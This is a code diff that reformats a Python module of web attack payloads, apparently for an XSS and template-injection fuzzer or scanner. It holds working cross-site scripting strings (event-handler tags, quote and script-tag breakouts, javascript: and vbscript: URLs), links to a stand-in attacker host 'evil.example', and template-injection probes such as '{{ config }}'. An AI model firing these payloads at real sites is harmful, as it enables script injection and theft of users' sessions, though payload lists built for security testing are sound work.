@@ -47,12 +47,14 @@ TAGS = [
     f"<xss id=x onfocus={RUN} tabindex=1 autofocus>",
 ]
 EVENTS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerover onbegin onpageshow onscroll onwheel".split()
-ATTRIBUTES = [f"<img src=x {event}={RUN}>" for event in EVENTS] + [f"<svg {event}={RUN}><animate attributeName=x dur=1s>" for event in EVENTS]
+ATTRIBUTES = [f"<img src=x {event}={RUN}>" for event in EVENTS] + [
+    f"<svg {event}={RUN}><animate attributeName=x dur=1s>" for event in EVENTS
+]
 QUOTES = [
-    f"\" onfocus={RUN} autofocus x=\"",
+    f'" onfocus={RUN} autofocus x="',
     f"' onfocus={RUN} autofocus x='",
-    f"\" style=background:url({AWAY}) x=\"",
-    f"\"><script>{RUN}</script>",
+    f'" style=background:url({AWAY}) x="',
+    f'"><script>{RUN}</script>',
     f"'><script>{RUN}</script>",
     f"`><script>{RUN}</script>",
     f"</textarea><script>{RUN}</script>",
@@ -78,7 +80,7 @@ ADDRESSES = [
     f"data:text/html,<script>{RUN}</script>",
     f"vbscript:{RUN}",
     f"//evil.example/{RUN}",
-    f"https://evil.example/\"onclick=\"{RUN}",
+    f'https://evil.example/"onclick="{RUN}',
 ]
 TEMPLATES = [
     "{{ 7 * 7 }}{{ config }}",
